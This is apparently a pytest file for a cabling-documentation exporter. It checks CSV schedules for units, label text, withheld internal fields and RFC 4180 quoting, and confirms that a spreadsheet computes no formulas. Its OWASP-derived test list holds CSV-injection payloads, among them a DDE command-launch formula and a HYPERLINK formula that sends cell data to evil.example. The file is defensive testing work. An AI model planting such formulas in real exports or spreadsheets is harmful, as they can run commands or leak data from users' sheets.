"""Schedules as CSV: RFC 4180, read by Python and by a spreadsheet; nothing in them computes."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from binder.file import BinderFile, create
from binder.intake import json_form
from binder.records.catalog import KINDS
from exporters.export import export, render
from exporters.spreadsheet import csv_text, harmless
from tests.binder.generated import base_binder
from tests.exporters.conftest import TODAY
from tests.exporters.test_withheld import INTERNAL, NOT_TOLD, canaries
from tests.system import needs

Add = Callable[..., int]
Rows = list[dict[str, str]]

# OWASP, 'CSV Injection', and its examples of commands and links.
FORMULAS = (
    "=1+2", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?x="&A1,"Error")',
    "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2", "\n=1+2", "＝1+2", "＋1", "－1", "＠SUM(1)",
    '=1+2";=1+2', '"=1+2', "',=1+2",
)  # fmt: skip


def files(binder: BinderFile) -> dict[str, str]:
    """The text of each file by its name."""
    made = render(binder, "schedules", form="csv", today=TODAY)
    return {Path(path).stem: str(text) for path, text in made.items()}


@pytest.fixture
def table(binder: BinderFile) -> Callable[[str], Rows]:
    """`table("cords")`: that schedule as the csv module reads it, as the binder is now."""

    def table(name: str) -> Rows:
        text = files(binder)[name].removeprefix("\ufeff")
        return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))

    return table


def test_a_cord_is_a_row_with_the_unit_in_the_heading(
    closet: BinderFile, table: Callable[[str], Rows]
) -> None:
    first = table("cords")[0]
    assert (first["End A"], first["End B"], first["Length (m)"]) == ("1A-A:01", "SW1:01", "1")


def test_feet_and_money_as_a_spreadsheet_counts_them(
    closet: BinderFile, add: Add, change: Callable[..., None], table: Callable[[str], Rows]
) -> None:
    """1 ft = 0.3048 m (NIST SP 811, appendix B); no marks of thousands."""
    change("client Quillmere Veterinary Clinic", unit_system="us", currency="USD")
    change("link 1A-A01", length_m=30.48)
    change("SW1", price=123456789)
    assert table("links")[0]["Length (ft)"] == "100"
    price = {row["Identifier"]: row["Price (USD)"] for row in table("hardware")}
    assert price["SW1"] == "1234567.89"


def test_the_patch_map_goes_from_panel_port_to_room_and_switch(
    closet: BinderFile, table: Callable[[str], Rows]
) -> None:
    first, second, *_ = table("patch-map")
    assert tuple(first.values()) == (
        "1A-A", "01", "1A-A01", "114-1:A", "114 Reception", "SW1:01", "SW1:01", "20",
        "front desk phone", "unknown",
    )  # fmt: skip
    assert (second["Goes to"], second["Patched to"]) == ("114-1:B", "")


def test_the_cable_schedule_has_the_text_of_both_labels(
    closet: BinderFile, table: Callable[[str], Rows]
) -> None:
    link, cord = (row for row in table("cable-labels") if row["Cable"] in ("1A-A01", "C-0001"))
    assert link["Label at end B"] == "1A-A01 / TO 1A-A:01 / AT 114-1:A"
    assert cord["Label at end A"] == "C-0001 / TO SW1:01 / AT 1A-A:01"


def test_the_list_of_files_is_what_is_there(closet: BinderFile, tmp_path: Path) -> None:
    written = export(closet, "schedules", form="csv", target=tmp_path, today=TODAY)
    rows = list(csv.reader(io.StringIO(written[0].read_text("utf-8-sig"))))
    assert [path.name for path in written[1:]] == [row[0] for row in rows[1:-1]]
    assert rows[-1][0] == "DRAFT, 2026-03-14"


def test_every_field_the_client_may_have_and_no_other_is_in_them(tmp_path: Path) -> None:
    data = base_binder()
    for canary in canaries():
        for record in data[canary.kind.plural]:
            record[canary.field.name] = canary.text
    for touch in data["touches"]:
        touch["how"] = "concerned"
    with create(tmp_path / "canaries.binder", "") as binder:
        json_form.load(binder, data, "M. Osei")
        text = "".join(files(binder).values())
    told = [c for c in canaries() if not c.field.internal and c.kind.name not in NOT_TOLD]
    assert [c.text for c in told if c.text not in text] == []
    assert [c.text for c in INTERNAL if c.text in text] == []
    assert len(told) > 3 * len(KINDS)


def test_what_a_call_merely_opened_is_not_told(closet: BinderFile, add: Add) -> None:
    entry = add("log_entry", opened_at="2026-03-01T10:00:00Z", summary="phone dead")
    add("touch", log_entry=entry, subject="SW1 / admin", how="revealed")
    assert "touches" not in files(closet)


def test_management_addresses_are_withheld(closet: BinderFile, change: Callable[..., None]) -> None:
    change("SW1", management_address="198.51.100.77", notes="log in at 198.51.100.77 or ask")
    text = "".join(files(closet).values())
    assert "198.51.100.77" not in text
    assert "log in at [management address] or ask" in text


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_begins_as_a_formula_begins_with_an_apostrophe(typed: str) -> None:
    text = csv_text(("Name",), [(typed,)], for_spreadsheet=False)
    ((_,), (cell,)) = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert cell.lstrip("\t\n␍")[0] in "'\""
    assert cell == harmless(typed)


def test_lines_end_as_rfc_4180_says_and_every_cell_is_quoted() -> None:
    text = csv_text(("A", "B"), [('say "x"', "two\nlines"), ("", "1,5")], for_spreadsheet=False)
    assert text == '"A","B"\r\n"say ""x""","two\nlines"\r\n"","1,5"\r\n'


def opened(path: Path) -> str:
    """The cells of a CSV as LibreOffice takes them in, as its flat XML.

    Its filter: comma, quote, UTF-8, from line 1; formulas and special numbers are made of text.
    """
    soffice = needs("soffice", "libreoffice")
    profile = (path.parent / "profile").as_uri()
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile}", "--headless",
         "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
         "--convert-to", "fods", "--outdir", str(path.parent), str(path)],
        check=True, capture_output=True, timeout=100,
    )  # fmt: skip
    text = path.with_suffix(".fods").read_text("utf-8")
    return text[text.index("<table:table ") :]


def test_a_spreadsheet_opens_them_and_computes_nothing(
    binder: BinderFile, add: Add, tmp_path: Path
) -> None:
    typed = [formula for formula in FORMULAS if not set("\t\r\n") & set(formula)]
    for formula in typed:
        add("known_issue", identifier=formula, effect=formula)
    (path,) = (
        path for path in export(binder, "schedules", form="csv", target=tmp_path, today=TODAY)
        if path.name == "known-issues.csv"
    )  # fmt: skip
    cells = opened(path)
    assert "table:formula" not in cells
    assert cells.count("1+2") >= 8  # they are there, as text


def test_without_the_apostrophe_it_would_have_computed(tmp_path: Path) -> None:
    (tmp_path / "bare.csv").write_text('"Name"\r\n=1+2\r\n"=1+2"\r\n', "utf-8")
    assert opened(tmp_path / "bare.csv").count("table:formula") == 2
